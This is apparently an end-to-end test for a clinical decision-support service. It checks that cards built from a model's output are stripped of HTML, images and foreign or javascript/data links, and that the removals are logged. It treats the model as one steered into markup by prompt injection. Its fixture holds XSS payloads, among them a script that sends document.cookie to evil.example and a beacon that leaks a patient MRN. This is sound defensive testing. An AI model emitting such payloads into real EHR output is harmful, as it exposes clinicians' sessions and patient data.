import { randomUUID } from 'node:crypto';
import MarkdownIt from 'markdown-it';
import { startLocalStack, type LocalStack } from '../../tools/local-stack/local-stack';
import { cdsResponseProblems } from '../support/cds-conformance';
import { clientsFile, gatewayHeaders } from '../support/internal-call';
import { createTestDatabase, queryRows, type TestDatabase } from '../support/postgres';
import { testStackEnv } from '../support/stack-env';
import { prefetchFromSynthea, specExample } from '../support/synthea';

const DIRK = 'Dirk_Kuhlman_1e503533-b8c2-42cb-a6d5-bbd7d70d07ad.json';

/** A model steered into markup (the prompt-injection case): what reaches the EHR and what is recorded. */
describe('cds-hooks safe cards', () => {
  let db: TestDatabase;
  let stack: LocalStack;

  beforeAll(async () => {
    db = await createTestDatabase('e2e_safe_cards');
    stack = await startLocalStack({
      env: testStackEnv({
        DATABASE_URL: db.url,
        HOOK_DEADLINE_MS: '3000',
        CARD_LINK_HOSTS: 'www.uptodate.com',
        EHR_CLIENTS_FILE: clientsFile([{ id: 'e2e-ehr', issuer: 'https://ehr.e2e.test' }]),
      }),
      modelDoublePort: 0,
    });
  });
  afterAll(async () => {
    await stack?.stop();
    await db?.drop();
  });

  it('returns cards without HTML, images or foreign links, and records the removals in the answer detail', async () => {
    const detail = [
      'Hold **warfarin**; see [dosing](https://www.uptodate.com/contents/warfarin).',
      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
      'INR <img src=x onerror="alert(1)"> high ![b](https://evil.example/beacon.gif?mrn=1)',
      '[Open chart](javascript:alert(1)) and [more][r] or <https://evil.example/x>',
      '',
      '[r]: data:text/html,<script>alert(1)</script>',
    ].join('\n\n');
    stack.modelDouble!.enqueueResponse(
      JSON.stringify({
        findings: [
          { summary: 'INR high <b onmouseover=alert(1)>now</b>', indicator: 'warning', detail, evidence: ['P1'] },
        ],
      }),
    );
    const { patientId, prefetch } = prefetchFromSynthea(DIRK);
    const context = {
      ...(specExample('library1.0.1_patient-view_context-2-with-encounter.json').context as Record<string, unknown>),
      patientId,
    };
    const hookInstance = randomUUID();
    const res = await fetch(`${stack.cdsHooksUrl}/cds-services/meditron-patient-view`, {
      method: 'POST',
      headers: await gatewayHeaders(stack.internalTokenSecret, {
        clientId: 'e2e-ehr',
        path: '/cds-services/meditron-patient-view',
      }),
      body: JSON.stringify({ hook: 'patient-view', hookInstance, context, prefetch }),
    });
    expect(res.status).toBe(200);
    const json = (await res.json()) as { cards: Array<{ summary: string; detail: string }> };
    expect(cdsResponseProblems(json)).toEqual([]);
    expect(json.cards).toHaveLength(1);
    const card = json.cards[0]!;
    expect(card.summary).toBe('INR high now');
    // Rendered as an EHR would (raw HTML on): only the allowed link survives as an element.
    const html = new MarkdownIt('default', { html: true, linkify: true }).render(card.detail);
    expect(html).not.toMatch(/<(script|img|b)\b/i);
    expect(html.match(/<a [^>]*>/g)).toEqual(['<a href="https://www.uptodate.com/contents/warfarin">']);
    expect(card.detail).toContain('Open chart');
    expect(card.detail).not.toMatch(/javascript:|data:text/);

    const rows = await queryRows<{ answer_detail: Record<string, unknown> }>(
      db.url,
      `SELECT answer_detail FROM hook_invocations WHERE hook_instance = $1`,
      [hookInstance],
    );
    expect(rows[0]!.answer_detail.removedMarkup).toEqual({ html: 4, image: 1, link_scheme: 2, link_host: 1 });
    expect(JSON.stringify(rows[0]!.answer_detail)).not.toContain('evil.example');
  });
});
